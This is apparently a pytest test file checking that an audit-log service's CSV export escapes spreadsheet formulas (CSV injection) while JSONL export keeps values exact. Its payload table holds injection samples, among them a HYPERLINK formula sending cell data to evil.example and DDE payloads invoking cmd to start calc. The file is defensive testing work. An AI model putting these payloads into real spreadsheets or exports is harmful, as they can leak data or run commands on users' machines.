"""CSV export neutralises spreadsheet formulas (OWASP "CSV Injection"); JSONL stays exact.

`GET /v1/export?format=csv` and `trailkeeper export --format csv` write the same bytes, so
both are checked against the same expectations.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from typing import Any

import pytest
from click.testing import CliRunner
from litestar.testing import TestClient

from trailkeeper.cli import main
from trailkeeper.formats import FORMULA_STARTS, csv_cell

Headers = Callable[..., dict[str, str]]

# Event field -> its CSV column, for every free-text field an events.write key chooses.
TEXT_FIELDS: list[tuple[str, str]] = [
    ("action", "action"),
    ("type", "type"),
    ("actor.id", "actor_id"),
    ("actor.name", "actor_name"),
    ("actor.type", "actor_type"),
    ("actor.status", "actor_status"),
    ("target.type", "target_type"),
    ("target.id", "target_id"),
    ("target.name", "target_name"),
    ("source", "source"),
    ("context.user_agent", "user_agent"),
]
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+1+2",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+2",
    "\r": "\r=1+2",
}


def event_with(field: str, value: str) -> dict[str, Any]:
    event: dict[str, Any] = {"action": "created", "actor": {"id": "u1"}}
    if "." in field:
        part, name = field.split(".")
        event.setdefault(part, {})[name] = value
    else:
        event[field] = value
    return event


def csv_rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))


def cli_export(database_url: str, fmt: str) -> bytes:
    result = CliRunner().invoke(
        main, ["--database-url", database_url, "export", "--tenant", "acme", "--format", fmt]
    )
    assert result.exit_code == 0, result.output
    return result.stdout_bytes


def test_every_formula_start_is_covered() -> None:
    assert set(PAYLOADS) == set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize(("field", "column"), TEXT_FIELDS, ids=[f for f, _ in TEXT_FIELDS])
def test_csv_export_neutralises_formulas_in_every_text_column(
    client: TestClient[Any], key_for: Headers, database_url: str, field: str, column: str
) -> None:
    headers = key_for()
    sent = list(PAYLOADS.values())
    for value in sent:
        response = client.post("/v1/events", json=event_with(field, value), headers=headers)
        assert response.status_code == 201, response.text

    api = client.get("/v1/export", params={"format": "csv"}, headers=headers)
    assert api.status_code == 200, api.text
    cli = cli_export(database_url, "csv")
    assert cli == api.content, "the CLI and the API share one CSV writer"
    cells = [row[column] for row in csv_rows(api.content)]
    assert cells == ["'" + value for value in sent]


def test_csv_export_leaves_harmless_text_alone(
    client: TestClient[Any], key_for: Headers, database_url: str
) -> None:
    headers = key_for()
    harmless = ["a=b", "1+1", "'quoted", " =leading space", "user@example.com", "ok-"]
    harmless += ["carriage\rreturn", "two\nlines", "crlf\r\ninside"]  # one row each
    for value in harmless:
        assert client.post("/v1/events", json=event_with("action", value), headers=headers)
    rows = csv_rows(client.get("/v1/export?format=csv", headers=headers).content)
    assert [row["action"] for row in rows] == harmless


def test_csv_metadata_column_is_json_and_never_a_formula(
    client: TestClient[Any], key_for: Headers
) -> None:
    headers = key_for()
    metadata = {"formula": "=1+2", "minus": "-1", "n": -5}
    response = client.post(
        "/v1/events",
        json={**event_with("action", "created"), "metadata": metadata},
        headers=headers,
    )
    assert response.status_code == 201, response.text
    [row] = csv_rows(client.get("/v1/export?format=csv", headers=headers).content)
    assert row["metadata"].startswith("{")
    assert json.loads(row["metadata"]) == metadata


def test_jsonl_export_keeps_formula_text_exactly(
    client: TestClient[Any], key_for: Headers, database_url: str
) -> None:
    headers = key_for()
    for value in PAYLOADS.values():
        event = event_with("action", value)
        event["actor"] = {"id": value, "name": value}
        event["metadata"] = {"v": value}
        assert client.post("/v1/events", json=event, headers=headers).status_code == 201
    api = client.get("/v1/export", headers=headers).content
    assert cli_export(database_url, "jsonl") == api
    lines = [json.loads(line) for line in api.splitlines()]
    expected = list(PAYLOADS.values())
    assert [line["action"] for line in lines] == expected
    assert [line["actor"]["id"] for line in lines] == expected
    assert [line["actor"]["name"] for line in lines] == expected
    assert [line["metadata"]["v"] for line in lines] == expected


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1", "'=1"),
        ("", ""),
        ("x=1", "x=1"),
        (None, None),
        (-5, -5),
        (True, True),
        ("\n=1", "\n=1"),
    ],
)
def test_csv_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell
